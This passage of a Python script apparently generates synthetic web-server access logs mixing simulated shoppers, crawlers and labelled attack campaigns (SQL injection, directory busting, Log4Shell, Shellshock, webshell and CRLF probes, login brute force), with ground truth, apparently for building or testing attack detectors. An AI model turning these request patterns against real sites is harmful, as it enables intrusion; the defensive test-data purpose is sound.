        if r < 0.22:
            path, kind = "/", "home"
        elif r < 0.62:
            path, kind = site.product_path(rng, site.pid(rng)), "product"
        elif r < 0.80:
            path, kind = site.category_path(rng), "list"
        elif r < 0.88:
            path, kind = site.search_path(rng), "search"
        elif r < 0.94:
            path, kind = "/campaign/%s/" % rng.choice(CAMPAIGNS), "list"
        else:
            path, kind = rng.choice(GUIDES + site.news + ["/brand/%s/" % b for b in BRANDS]), "info"
        ref = rng.choices([e[0] for e in ENTRY_REFERERS], weights=[e[1] for e in ENTRY_REFERERS])[0]
        if ref == "-" and rng.random() < 0.3:
            path += ("&" if "?" in path else "?") + utm_params(rng)
        elif ref.startswith("https://www.google") and rng.random() < 0.2 or ref == "https://search.yahoo.co.jp/" and rng.random() < 0.2:
            path += ("&" if "?" in path else "?") + click_id(rng)
        elif ref in ("https://www.instagram.com/", "https://l.instagram.com/", "https://m.facebook.com/") and rng.random() < 0.5:
            path += ("&" if "?" in path else "?") + "fbclid=" + _rs(rng, 60)
        if ref == "https://search.yahoo.co.jp/" and rng.random() < 0.4:
            ref = "https://search.yahoo.co.jp/search?p=%s&fr=top_ga1_sa&ei=UTF-8" % quote_plus(rng.choice(JP_TERMS))
        if rng.random() < 0.0006:  # a client that sends raw UTF-8 in the request line (nginx escapes it)
            path, kind = "/search?q=" + rng.choice(JP_TERMS).replace(" ", "+"), "search"
        n_pages = 1 if rng.random() < 0.45 else min(1 + int(rng.expovariate(1 / 3.5)), 40)
        cached = returning and rng.random() < 0.7
        prev_url = None
        for pg in range(n_pages):
            if len(out) >= limit:
                break
            status = 200
            if kind == "product":
                pid_s = path.split("/")[2].split("?")[0]
                if int(pid_s) - site.first_pid in site.gone:
                    status = 404
            elif rng.random() < 0.002:
                status = 404
            add(t, "GET %s %s" % (path, http), status, self.page_size(rng, kind) if status == 200 else 5120, ref)
            page_url = ORIGIN + path
            ta = t + rng.uniform(0.05, 0.4)
            if pg == 0 and not cached:
                for name in ("app.css", "vendor.js", "app.js"):
                    nm, ext = name.rsplit(".", 1)
                    add(ta, "GET /assets/%s/%s.%s.%s %s" % (ext, nm, assets[name], ext, http), 200, rng.randint(20000, 180000), page_url)
                    ta += rng.uniform(0.01, 0.2)
                if rng.random() < 0.3:
                    add(ta, "GET /assets/css/vendor.%s.css %s" % (assets["vendor.css"], http), 200, rng.randint(20000, 90000), page_url)
                if rng.random() < 0.4:
                    add(ta, "GET /assets/fonts/NotoSansJP-Regular.woff2 %s" % http, 200, 412000, ORIGIN + "/assets/css/app.%s.css" % assets["app.css"])
                if rng.random() < 0.5:
                    add(ta + 0.05, "GET /images/logo.svg %s" % http, 200, 3412, page_url)
                if rng.random() < 0.4:
                    add(ta + 0.3, "GET /favicon.ico %s" % http, 200, 1150, page_url)
                if "iPhone" in ua and rng.random() < 0.3:
                    add(ta + 0.4, "GET /apple-touch-icon-precomposed.png %s" % http, 404, 5120, "-")
                    add(ta + 0.41, "GET /apple-touch-icon.png %s" % http, 200, 8622, "-")
            elif pg == 0:
                add(ta, "GET /assets/css/app.%s.css %s" % (assets["app.css"], http), 304, 0, page_url)
            ta += rng.uniform(0.05, 0.3)
            if kind == "product":
                pid = int(path.split("/")[2].split("?")[0])
                if pg == 0 or rng.random() < 0.1:
                    add(ta, "GET /assets/js/chunk-product.%s.js %s" % (assets["chunk-product.js"], http), 304 if cached else 200, rng.randint(8000, 40000), page_url)
                for k in range(rng.randint(1, 3)):
                    add(ta + 0.1 * k, "GET /images/products/%d/main_%d.jpg %s" % (pid, k + 1, http), 200, rng.randint(30000, 220000), page_url)
                if rng.random() < 0.3:
                    add(ta + 0.6, "GET /api/v1/recommend?product_id=%d %s" % (pid, http), 200, rng.randint(1500, 5000), page_url)
            elif kind in ("list", "search", "home"):
                if kind == "search" and rng.random() < 0.4:
                    add(ta, "GET /assets/js/chunk-search.%s.js %s" % (assets["chunk-search.js"], http), 200, rng.randint(8000, 30000), page_url)
                for k in range(rng.randint(1, 5)):
                    add(ta + 0.05 * k, "GET /images/products/%d/thumb.webp %s" % (site.first_pid + site.pid(rng), http), 200, rng.randint(6000, 30000), page_url)
                if kind == "home" and rng.random() < 0.5:
                    add(ta + 0.2, "GET /images/banner/%s.jpg %s" % (rng.choice(CAMPAIGNS), http), 200, rng.randint(60000, 250000), page_url)
            if rng.random() < 0.08:
                add(ta + 0.8, "GET /api/v1/cart/count %s" % http, 200, 24, page_url)
            # next page
            prev_url = page_url
            t += min(rng.lognormvariate(2.6, 1.0), 600.0) + 1.0
            ref = prev_url
            r = rng.random()
            if kind == "product" and r < 0.12:  # add to cart, then the cart
                add(t, "POST /cart/add %s" % http, 302, 0, prev_url)
                t += rng.uniform(0.2, 0.8)
                path, kind = "/cart", "info"
                if rng.random() < 0.25 and pg + 2 < n_pages:
                    add(t, "GET /cart %s" % http, 200, self.page_size(rng, "info"), prev_url)
                    t += rng.uniform(10, 60)
                    add(t, "GET /checkout %s" % http, 200, self.page_size(rng, "info"), ORIGIN + "/cart")
                    t += rng.uniform(20, 120)
                    add(t, "POST /checkout/confirm %s" % http, 302, 0, ORIGIN + "/checkout")
                    add(t + 0.3, "GET /checkout/confirm %s" % http, 200, self.page_size(rng, "info"), ORIGIN + "/checkout")
                    t += rng.uniform(10, 60)
                    add(t, "POST /checkout/complete %s" % http, 302, 0, ORIGIN + "/checkout/confirm")
                    path = "/checkout/thanks"
            elif r < 0.45:
                path, kind = site.product_path(rng, site.pid(rng)), "product"
            elif r < 0.65:
                path, kind = site.category_path(rng), "list"
            elif r < 0.80:
                path, kind = site.search_path(rng), "search"
            elif r < 0.84:
                add(t, "GET /login %s" % http, 200, self.page_size(rng, "info"), prev_url)
                t += rng.uniform(5, 30)
                add(t, "POST /login %s" % http, 302 if rng.random() < 0.85 else 200, 0, ORIGIN + "/login")
                path, kind = "/mypage", "info"
                ref = ORIGIN + "/login"
            elif r < 0.9:
                path, kind = "/", "home"
            else:
                path, kind = rng.choice(GUIDES + ["/brand/%s/" % rng.choice(BRANDS), "/campaign/%s/" % rng.choice(CAMPAIGNS)]), "info"
        return len(out) - start_len

    def humans_day(self, rng, d, budget, out):
        a = self.a
        gw_budget = int(round(budget * a.gateway_share)) if self.gateways else 0
        # gateways: office ones barely work on weekends
        weekday = (self.start + dt.timedelta(days=d)).weekday()
        gws = self.gateways
        gw_w = [g["weight"] * (0.08 if g["kind"] == "office" and weekday >= 5 else 1.0) for g in gws]
        tot = sum(gw_w) or 1.0
        used = 0
        for gi, g in enumerate(gws):
            share = gw_budget - used if gi == len(gws) - 1 else int(gw_budget * gw_w[gi] / tot)
            used += share
            cum = self.hour_office if g["kind"] == "office" else (self.hour_mobile if g["kind"] == "carrier" else self.hour_human)
            n = 0
            while n < share:
                ua = rng.choice(g["pop"])
                g["uas"].add(ua)
                t0 = self.at_hour(rng, d, cum)
                n += self.session(rng, out, t0, g["addr"], ua, True, ",", share - n, dayf=d)
            g["lines"] += share
        rest = budget - gw_budget
        n = 0
        addrs, cum = self.human_addrs, self.addr_cum
        while n < rest:
            i = bisect.bisect(cum, rng.random() * cum[-1])
            ip = addrs[min(i, len(addrs) - 1)]
            hh = self.households.get(ip)
            if hh is None:
                hh = [self.uas.pick(rng) for _ in range(rng.choices([1, 2, 3], weights=[6, 3, 1])[0])]
                self.households[ip] = hh
            cat, ua, mob = rng.choice(hh)
            v = self.visits.get(ip, 0)
            self.visits[ip] = v + 1
            t0 = self.at_hour(rng, d, self.hour_mobile if mob else self.hour_human)
            n += self.session(rng, out, t0, ip, ua, mob, ".", rest - n, app=(cat == "shop_app"), returning=v > 0, dayf=d)

    # -------------------------------------------------------------------- crawlers
    def crawlers_day(self, rng, d, budget, out):
        site = self.site
        for _ in range(budget):
            c = self.crawlers[bisect.bisect(self.crawler_cum, rng.random() * self.crawler_cum[-1])]
            name, _, ua, addrs = c
            ip = rng.choice(addrs)
            if "{chrome}" in ua:
                cv = rng.randint(120, 126)
                ua = ua.replace("{chrome}", str(cv)).replace("{build}", CHROME_FULL[cv])
            t = d * 86400.0 + rng.random() * 86400.0
            r = rng.random()
            if name == "uptimerobot":
                req, st, sz = "HEAD / HTTP/1.1" if rng.random() < 0.5 else "GET / HTTP/1.1", 200, 0
            elif name == "googlebot-image":
                pid = site.first_pid + rng.randrange(site.n_products)
                req, st, sz = "GET /images/products/%d/main_1.jpg HTTP/1.1" % pid, 200, rng.randint(30000, 200000)
            elif r < 0.02:
                req, st, sz = "GET /robots.txt HTTP/1.1", 200, 412
            elif r < 0.03:
                req, st, sz = "GET /sitemap.xml HTTP/1.1", 200, 18231
            elif r < 0.70:
                i = rng.randrange(site.n_products) if rng.random() < 0.6 else site.pid(rng)
                req = "GET %s HTTP/1.1" % site.product_path(rng, i)
                st = 404 if i in site.gone else (304 if rng.random() < 0.08 else 200)
                sz = 0 if st == 304 else (5120 if st == 404 else rng.randint(20000, 60000))
            elif r < 0.88:
                req, st, sz = "GET %s HTTP/1.1" % site.category_path(rng), 200, rng.randint(30000, 70000)
            elif r < 0.93:
                req, st, sz = "GET %s HTTP/1.1" % rng.choice(site.news + GUIDES), 200, rng.randint(10000, 30000)
            elif r < 0.96:
                req, st, sz = "GET /category/%s HTTP/1.1" % rng.choice(CATEGORIES), 301, 169
            else:
                req, st, sz = "GET /assets/css/app.%s.css HTTP/1.1" % site.assets(d)["app.css"], 200, rng.randint(60000, 90000)
            out.append((t, ip, "-", req, st, sz, "-", ua, "b"))

    # -------------------------------------------------------------------- attacks
    def attacks(self, total):
        rng = random.Random(self.a.seed * 7919 + 17)
        span = self.days * 86400.0
        out = []
        kinds = [("probe", 20, 1, 25), ("dirbust", 24, 300, 4000), ("sqlmap", 16, 120, 2500), ("vulnscan", 18, 150, 1800),
                 ("fuzz", 10, 40, 600), ("wpbrute", 4, 40, 500), ("webshell", 4, 30, 300), ("log4shell", 2, 3, 40),
                 ("crlf", 1, 10, 80)]
        # weights are shares of lines: turn them into campaign-count weights
        cw = [k[1] / ((k[2] + k[3]) / 2.0) for k in kinds]
        while len(out) < total:
            kind, _, lo, hi = rng.choices(kinds, weights=cw)[0]
            n = int(math.exp(rng.uniform(math.log(lo), math.log(hi + 1))))
            n = max(1, min(n, total - len(out)))
            ip = self.attack_addrs[min(bisect.bisect(self.attack_cum, rng.random() * self.attack_cum[-1]), len(self.attack_addrs) - 1)]
            t0 = rng.random() * span
            before = len(out)
            getattr(self, "camp_" + kind)(rng, out, ip, t0, n)
            del out[before + n:]
            self.stats["campaigns"][kind] = self.stats["campaigns"].get(kind, 0) + 1
        return out

    def _target(self, rng):
        site = self.site
        r = rng.random()
        if r < 0.35:
            return "/products/%d" % (site.first_pid + site.pid(rng)), "color", "black"
        if r < 0.6:
            return "/search", "q", quote_plus(rng.choice(EN_TERMS))
        if r < 0.75:
            return "/category/%s/" % rng.choice(CATEGORIES), "page", "2"
        if r < 0.85:
            return "/api/v1/recommend", "product_id", str(site.first_pid + site.pid(rng))
        if r < 0.93:
            return "/download", "file", "catalog.pdf"
        return "/index.php", "page", "home"

    def _rate_times(self, rng, t0, n, rps):
        t = t0
        for _ in range(n):
            yield t
            t += rng.expovariate(rps)

    def camp_sqlmap(self, rng, out, ip, t0, n):
        path, param, val = self._target(rng)
        ua = rng.choice(SCANNER_UAS["sqlmap"] if rng.random() < 0.55 else SCANNER_UAS["sqlmap-random"])
        headers = rng.random() < 0.3  # --level 3: payloads in User-Agent and Referer too
        tmp = rng.choice([None, None, None, "space2comment", "randomcase", "between", "charencode"])
        techs = ["boolean", "error", "time", "union", "stacked"]
        st = 200 if not path.startswith("/download") else 404
        ref0 = "-"
        times = self._rate_times(rng, t0, n, rng.uniform(4, 30))
        for i, t in enumerate(times):
            if i < 3 or rng.random() < 0.08:  # baseline, stability and WAF checks without payload
                out.append((t, ip, "-", "GET %s?%s=%s HTTP/1.1" % (path, param, val), st, 9000, ref0, ua, "K"))
                continue
            tech = "heuristic" if i < 6 else rng.choice(techs)
            p = sqlmap_payload(rng, tech)
            if tmp:
                p = tamper(rng, p, tmp)
            where = rng.random() if headers else 0.0
            if where < 0.6:
                v = val + p if p[:1] in "'\")%;" else ("-%d%s" % (_r4(rng), p) if tech == "union" and rng.random() < 0.5 else val + p)
                if tmp == "charencode":
                    ev_ = val + p if p.startswith("%") else v
                else:
                    ev_ = q(v, safe="%" if tmp else "")
                out.append((t, ip, "-", "GET %s?%s=%s HTTP/1.1" % (path, param, ev_), rng.choice([st, st, st, 500]), rng.randint(200, 12000), ref0, ua, "Q"))
            elif where < 0.8:
                out.append((t, ip, "-", "GET %s?%s=%s HTTP/1.1" % (path, param, val), st, 9000, ref0, ua + p, "Q"))
            else:
                out.append((t, ip, "-", "GET %s?%s=%s HTTP/1.1" % (path, param, val), st, 9000, ORIGIN + path + p, ua, "Q"))

    def camp_dirbust(self, rng, out, ip, t0, n):
        tool = rng.choice(["dirb", "gobuster", "ffuf", "feroxbuster", "dirbuster", "browser-old", "script"])
        ua = rng.choice(SCANNER_UAS[tool])
        exts = rng.sample(DIR_EXTS, rng.randint(1, 5))
        base = rng.choice(["/", "/", "/", "/assets/", "/api/", "/admin/", "/wp-content/"])
        sens = set(s.lstrip("/") for s in SENSITIVE)
        words = list(DIR_WORDS) + [s.lstrip("/") for s in SENSITIVE[:40]]
        rng.shuffle(words)
        method = "HEAD" if tool == "script" and rng.random() < 0.4 else "GET"
        times = self._rate_times(rng, t0, n, rng.uniform(15, 120))
        wi = 0
        for t in times:
            w = words[wi % len(words)] + exts[(wi // len(words)) % len(exts)]
            wi += 1
            path = base + w
            hit = w.rstrip("/") in ("assets", "images", "api", "search", "cart", "login", "category", "products", "news", "guide", "robots.txt", "sitemap.xml", "faq", "company", "contact")
            st = (301 if "." not in w and not w.endswith("/") else 200) if hit else (403 if w.startswith(".") else 404)
            cls = "F" if w in sens else ("A" if w.rstrip("/") in ("admin", "phpmyadmin", "pma", "adminer", "cpanel", "manager", "panel", "dashboard") else "D")
            out.append((t, ip, "-", "%s %s HTTP/1.1" % (method, path), st, 0 if method == "HEAD" else (5120 if st == 404 else 169 if st == 301 else 18000), "-", ua, cls))

    def camp_vulnscan(self, rng, out, ip, t0, n):
        tool = rng.choice(["nuclei", "nuclei", "nikto", "wapiti", "browser", "script"])
        if tool == "browser":
            fixed_ua = self.uas.pick(rng, "desktop")[1]
        elif tool in SCANNER_UAS:
            fixed_ua = None
        else:
            fixed_ua = rng.choice(SCANNER_UAS["script"])
        times = self._rate_times(rng, t0, n, rng.uniform(3, 40))
        for t in times:
            if fixed_ua:
                ua = fixed_ua
            elif tool == "nuclei" and rng.random() < 0.7:
                ua = rng.choice(SCANNER_UAS["browser-old"])  # nuclei sends random browser UAs by default
            else:
                ua = fill(rng, rng.choice(SCANNER_UAS[tool]))
            out.append(self._one_attack(rng, t, ip, ua, rng.choice("FFFAAWVVLLQXCRNJ")))

    def _one_attack(self, rng, t, ip, ua, cls, mode=None):
        """One request of class cls (payload lists above), as a scanner sends it."""
        path, param, val = self._target(rng)
        mode = mode or rng.choice(["full", "full", "light", "plus", "raw"])
        ref = "-"
        if cls == "F":
            p = rng.choice(SENSITIVE)
            return (t, ip, "-", "GET %s HTTP/1.1" % p, 403 if p.startswith("/.") else 404, 5120, ref, ua, cls)
        if cls == "A":
            p = rng.choice(ADMIN)
            m = "POST" if p in ("/wp-login.php", "/xmlrpc.php") and rng.random() < 0.5 else "GET"
            return (t, ip, "-", "%s %s HTTP/1.1" % (m, p), 404, 5120, ref, ua, cls)
        if cls == "W":
            return (t, ip, "-", "%s %s HTTP/1.1" % (rng.choice(["GET", "GET", "POST"]), fill(rng, rng.choice(WEBSHELLS))), 404, 5120, ref, ua, cls)
        if cls == "V":
            p = fill(rng, rng.choice(CVE))
            m = "POST" if any(k in p for k in ("eval-stdin", "GponForm", "mgmt/tm", "jsonws", "_ignition", "jars/upload", "SOAPService")) else "GET"
            return (t, ip, "-", "%s %s HTTP/1.1" % (m, p.replace(" ", "%20")), 404 if rng.random() < 0.9 else 400, 5120, ref, ua, cls)
        if cls == "L" and rng.random() < 0.3:
            return (t, ip, "-", "GET %s HTTP/1.1" % rng.choice(LFI_PATH), 400 if rng.random() < 0.5 else 404, 157, ref, ua, cls)
        lst = {"Q": MANUAL_SQLI, "X": XSS, "C": CMDI, "R": RFI, "L": LFI, "N": CRLF, "J": JNDI}[cls]
        p = fill(rng, rng.choice(lst))
        if cls == "C" and rng.random() < 0.15:  # Shellshock in the User-Agent / Referer
            s = fill(rng, rng.choice(SHELLSHOCK))
            return (t, ip, "-", "GET /cgi-bin/%s HTTP/1.1" % rng.choice(["test.cgi", "status", "admin.cgi", "bash", "test-cgi"]), 404, 5120, s if rng.random() < 0.5 else ref, s, cls)
        if cls == "J":
            r = rng.random()
            if r < 0.45:
                return (t, ip, "-", "GET / HTTP/1.1", 200, 48211, ref, p, cls)
            if r < 0.6:
                return (t, ip, "-", "GET %s HTTP/1.1" % path, 200, 30211, p, rng.choice(SCANNER_UAS["browser-old"]), cls)
            if r < 0.75:
                return (t, ip, "-", "GET /$%7B" + q(p[2:-1], safe=":/$") + "%7D HTTP/1.1", 404, 5120, ref, ua, cls)
        if cls == "X" and mode == "raw" and rng.random() < 0.3:  # reflected in the Referer
            return (t, ip, "-", "GET %s HTTP/1.1" % path, 200, 30211, ORIGIN + path + "?" + param + "=" + p, ua, cls)
        v = enc_value(rng, p, mode)
        st = 200 if not path.startswith(("/download", "/index.php")) else 404
        if mode == "raw" and rng.random() < 0.2:
            st = 400
        size = rng.randint(3000, 40000) if st == 200 else (5120 if st == 404 else 157)
        return (t, ip, "-", "GET %s?%s=%s HTTP/1.1" % (path, param, v), st, size, ref, ua, cls)

    def camp_fuzz(self, rng, out, ip, t0, n):
        cls = rng.choice("XXCCLLLRQN")
        tool = rng.choice(["wfuzz", "wfuzz", "ffuf", "browser", "script"])
        ua = self.uas.pick(rng, "desktop")[1] if tool == "browser" else rng.choice(SCANNER_UAS[tool])
        mode = rng.choice(["full", "raw", "raw", "light"]) if tool in ("wfuzz", "script") else "full"
        for t in self._rate_times(rng, t0, n, rng.uniform(5, 60)):
            out.append(self._one_attack(rng, t, ip, ua, cls, mode))

    def camp_probe(self, rng, out, ip, t0, n):
        ua = rng.choice(SCANNER_UAS[rng.choice(["script", "script", "zgrab", "masscan", "nmap", "browser-old", "browser-old"])])
        focus = rng.choice(["F", "F", "F", "V", "V", "A", "W", "P", "P", "J", "C", "L"])
        t = t0
        for _ in range(n):
            if focus == "P" and rng.random() < 0.7:
                raw, st = rng.choice(JUNK)
                if b"%s" in raw:
                    raw = raw.replace(b"%s", ip.encode())
                out.append((t, ip, "-", raw, st, {400: 157, 200: 48211}.get(st, 5120), "-", "-" if st == 400 else ua, "P" if raw != b"GET / HTTP/1.0" else "K"))
            elif rng.random() < 0.15:
                out.append((t, ip, "-", "GET / HTTP/1.1", 200, 48211, "-", ua, "K"))
            else:
                out.append(self._one_attack(rng, t, ip, ua, focus if focus != "P" else "V"))
            t += rng.expovariate(1 / 3.0)

    def camp_wpbrute(self, rng, out, ip, t0, n):
        ua = rng.choice(SCANNER_UAS["wpscan"] + SCANNER_UAS["browser-old"] + SCANNER_UAS["script"])
        out.append((t0, ip, "-", "GET /wp-login.php HTTP/1.1", 404, 5120, "-", ua, "A"))
        basic = rng.random() < 0.3
        for i, t in enumerate(self._rate_times(rng, t0 + 1, n - 1, rng.uniform(0.5, 8))):
            if basic:  # HTTP basic auth guessing: the user name reaches $remote_user
                out.append((t, ip, rng.choice(["admin", "root", "user", "test", "administrator", "guest", "shop"]), "GET /admin/ HTTP/1.1", 401, 590, "-", ua, "A"))
            else:
                out.append((t, ip, "-", "POST %s HTTP/1.1" % rng.choice(["/wp-login.php", "/xmlrpc.php", "/login", "/admin/login"]), rng.choice([404, 404, 200, 302]), 5120, "-", ua, "A"))

    def camp_webshell(self, rng, out, ip, t0, n):
        ua = rng.choice(SCANNER_UAS["browser-old"] + SCANNER_UAS["script"])
        for t in self._rate_times(rng, t0, n, rng.uniform(1, 20)):
            out.append(self._one_attack(rng, t, ip, ua, "W"))

    def camp_log4shell(self, rng, out, ip, t0, n):
        ua = rng.choice(SCANNER_UAS["script"])
        for t in self._rate_times(rng, t0, n, rng.uniform(0.5, 5)):
            out.append(self._one_attack(rng, t, ip, ua, "J"))

    def camp_crlf(self, rng, out, ip, t0, n):
        ua = rng.choice(SCANNER_UAS["nuclei"] + SCANNER_UAS["browser-old"])
        for t in self._rate_times(rng, t0, n, rng.uniform(2, 20)):
            if rng.random() < 0.4:
                out.append((t, ip, "-", "GET /%s HTTP/1.1" % fill(rng, rng.choice(CRLF)), 404, 5120, "-", ua, "N"))
            else:
                out.append(self._one_attack(rng, t, ip, ua, "N", "raw"))

    # -------------------------------------------------------------------- run
    def run(self):
        a, rng = self.a, self.rng
        n_attack = int(round(a.lines * a.attack_share))
        n_benign = a.lines - n_attack
        tot_w = sum(self.day_w)
        budgets = [int(n_benign * w / tot_w) for w in self.day_w]
        for i in range(n_benign - sum(budgets)):
            budgets[i % self.days] += 1
        attacks = self.attacks(n_attack)
        attacks.sort(key=lambda e: e[0])
        ai = 0
        out_f = open(a.output, "w", encoding="ascii", newline="\n") if a.output != "-" else sys.stdout
        truth_f = open(a.truth, "w", encoding="ascii") if a.truth else None
        carry = []
        st = self.stats
        counts_cls = st["classes"]
        status_c = st["status"]
        addrs, targets, uas = set(), set(), set()
        n_written = 0
        esc_lines = 0
        first_ts = last_ts = None
        day_prefix = self.day_prefix
        buf = []
        tbuf = []
        jsonl = a.truth_format == "jsonl"

        def flush_events(evs):
            nonlocal n_written, esc_lines, first_ts, last_ts
            for (t, ip, user, req, status, size, ref, ua, cls) in evs:
                d = int(t // 86400)
                s = int(t - d * 86400)
                ts = "%s%02d:%02d:%02d +0900" % (day_prefix[d], s // 3600, (s // 60) % 60, s % 60)
                er, ef, eu = esc(req), esc(ref), esc(ua)
                if (er is not req) or (ef is not ref) or (eu is not ua):
                    if "\\x22" in er or "\\x5C" in er or "\\x22" in ef or "\\x5C" in ef or "\\x22" in eu or "\\x5C" in eu:
                        esc_lines += 1
                buf.append('%s - %s [%s] "%s" %d %d "%s" "%s"\n' % (ip, user, ts, er, status, size, ef, eu))
                n_written += 1
                if truth_f:
                    if jsonl:
                        tbuf.append(json.dumps({"n": n_written, "attack": cls.isupper(), "class": cls, "name": CLASS_NAMES[cls]}) + "\n")
                    else:
                        tbuf.append(cls + "\n")
                counts_cls[cls] = counts_cls.get(cls, 0) + 1
                status_c[status] = status_c.get(status, 0) + 1
                addrs.add(ip)
                if isinstance(req, bytes):
                    targets.add(er)
                else:
                    sp = req.split(" ")
                    targets.add(sp[1] if len(sp) > 2 else req)
                uas.add(ua)
                if first_ts is None:
                    first_ts = t
                last_ts = t
            out_f.write("".join(buf))
            buf.clear()
            if truth_f:
                truth_f.write("".join(tbuf))
                tbuf.clear()

        bot_budget_total = 0
        for d in range(self.days):
            day_rng = random.Random((a.seed << 20) ^ (d * 2654435761))
            evs = carry
            budget = budgets[d]
            nb = int(round(budget * a.bot_share))
            bot_budget_total += nb
            self.crawlers_day(day_rng, d, nb, evs)
            self.humans_day(day_rng, d, budget - nb, evs)
            end = (d + 1) * 86400.0
            while ai < len(attacks) and attacks[ai][0] < end:
                evs.append(attacks[ai])
                ai += 1
            evs.sort(key=lambda e: e[0])
            if d == self.days - 1:
                cut = len(evs)
            else:
                cut = bisect.bisect_left([e[0] for e in evs], end)
            flush_events(evs[:cut])
            carry = evs[cut:]
        rest = carry + attacks[ai:]
        rest.sort(key=lambda e: e[0])
        flush_events(rest)
        if out_f is not sys.stdout:
            out_f.close()
        if truth_f:
            truth_f.close()
        return {"lines": n_written, "addresses": len(addrs), "targets": len(targets), "uas": len(uas),
                "first": first_ts, "last": last_ts, "esc_lines": esc_lines}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("-n", "--lines", type=int, default=1000000, help="lines to write (default 1,000,000)")
    ap.add_argument("-o", "--output", default="-", help="output file (default stdout)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--start", default="2024-04-01", help="first day, YYYY-MM-DD (+0900)")
    ap.add_argument("--days", type=int, default=30, help="time span in days (default 30)")
    ap.add_argument("--addresses", type=int, default=40000, help="home/mobile address pool (default 40,000)")
    ap.add_argument("--ipv6-share", type=float, default=0.15, help="share of the pool that is IPv6 (default 0.15)")
    ap.add_argument("--zipf-s", type=float, default=0.7, help="exponent of the sessions-per-address law (default 0.7)")
    ap.add_argument("--zipf-offset", type=float, default=8.0, help="rank offset of that law (default 8)")
    ap.add_argument("--gateways", type=int, default=8, help="shared gateway addresses (CGNAT, office, campus; default 8)")
    ap.add_argument("--gateway-share", type=float, default=0.07, help="share of human lines behind gateways (default 0.07)")
    ap.add_argument("--gateway-people", type=int, default=600, help="people (browsers) behind each carrier gateway (default 600)")
    ap.add_argument("--products", type=int, default=30000, help="distinct product ids (default 30,000)")
    ap.add_argument("--uas", type=int, default=1000, help="distinct browser/app user agents in the pool (default 1,000)")
    ap.add_argument("--bot-share", type=float, default=0.08, help="share of benign lines from crawlers/monitors (default 0.08)")
    ap.add_argument("--attack-share", type=float, default=0.04, help="share of attack lines (default 0.04)")
    ap.add_argument("--attack-sources", type=int, default=300, help="attacking addresses (default 300)")
    ap.add_argument("--truth", help="ground-truth sidecar: one class character per log line")
    ap.add_argument("--truth-format", choices=["chars", "jsonl"], default="chars")
    a = ap.parse_args()
    if a.lines < 1 or a.days < 1 or not 0 <= a.attack_share <= 1 or a.addresses < 1 or a.attack_sources < 1 or a.uas < 10:
        ap.error("bad sizes")
    t0 = time.time()
    g = Gen(a)
    r = g.run()
    el = time.time() - t0
    cls = g.stats["classes"]
    n = r["lines"]
    att = sum(v for k, v in cls.items() if k.isupper())
    names = CLASS_NAMES
    first = g.start + dt.timedelta(seconds=r["first"])
    last = g.start + dt.timedelta(seconds=r["last"])
    w = sys.stderr.write
    w("make_varied_log: %d lines in %.1f s (%s)\n" % (n, el, a.output))
    w("  span            %s .. %s (%.1f days, +0900)\n" % (first.strftime("%Y-%m-%d %H:%M:%S"), last.strftime("%Y-%m-%d %H:%M:%S"), (r["last"] - r["first"]) / 86400))
    w("  addresses       %d distinct (human pool %d, %d gateways, %d crawler, %d attack sources)\n" % (
        r["addresses"], len(g.human_addrs), len(g.gateways), sum(len(c[3]) for c in g.crawlers), len(g.attack_addrs)))
    v6 = sum(1 for x in g.visits if ":" in x)
    w("  humans seen     %d addresses (%d IPv6), busiest %d sessions\n" % (len(g.visits), v6, max(g.visits.values()) if g.visits else 0))
    for gw in g.gateways:
        w("  gateway         %-16s %-7s %7d lines, %4d distinct user agents\n" % (gw["addr"], gw["kind"], gw["lines"], len(gw["uas"])))
    w("  targets         %d distinct\n" % r["targets"])
    w("  user agents     %d distinct\n" % r["uas"])
    w("  attack share    %.4f (%d lines; %s)\n" % (att / n, att, ", ".join("%s %d" % (k, v) for k, v in sorted(g.stats["campaigns"].items()))))
    w("  classes         %s\n" % ", ".join("%s %s %d" % (k, names.get(k, k), cls[k]) for k in sorted(cls, key=lambda k: -cls[k])))
    w("  statuses        %s\n" % ", ".join("%d:%d" % kv for kv in sorted(g.stats["status"].items())))
    w("  escaped lines   %d with \\x22 or \\x5C (%.3f%%)\n" % (r["esc_lines"], 100.0 * r["esc_lines"] / n))
    if a.truth:
        w("  truth           %s (%s)\n" % (a.truth, a.truth_format))


if __name__ == "__main__":
    main()
